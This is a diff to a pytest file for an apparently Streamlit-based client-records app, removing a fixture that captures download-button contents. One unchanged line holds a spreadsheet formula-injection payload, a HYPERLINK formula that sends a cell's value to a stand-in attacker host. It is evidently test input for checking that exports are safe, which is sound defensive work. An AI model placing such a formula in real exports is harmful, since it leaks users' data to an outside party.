@@ -15,7 +15,6 @@ import zipfile
 from pathlib import Path
 
 import pytest
-from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 import signin
@@ -27,25 +26,6 @@ PROJECT_DIR = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 TYPED = ["Client One", "Client Two", "Client Three", "Ada Byron", ROBIN, "Thought record", "Morning walk", FORMULA,
          "Keep going, Client One"]
-
-
-@pytest.fixture
-def offered(monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
-    """file name -> what its download button offers: bytes, or the function a deferred download runs."""
-    found: dict[str, object] = {}
-    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred
-
-    def record(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
-        found[file_name] = path_or_data
-        return add(self, path_or_data, mimetype, coordinates, file_name, is_for_static_download)
-
-    def record_deferred(self, data_callable, mimetype, coordinates, file_name=None, *, element_id=""):
-        found[file_name] = data_callable
-        return add_deferred(self, data_callable, mimetype, coordinates, file_name, element_id=element_id)
-
-    monkeypatch.setattr(MediaFileManager, "add", record)
-    monkeypatch.setattr(MediaFileManager, "add_deferred", record_deferred)
-    return found
 
 
 @pytest.fixture
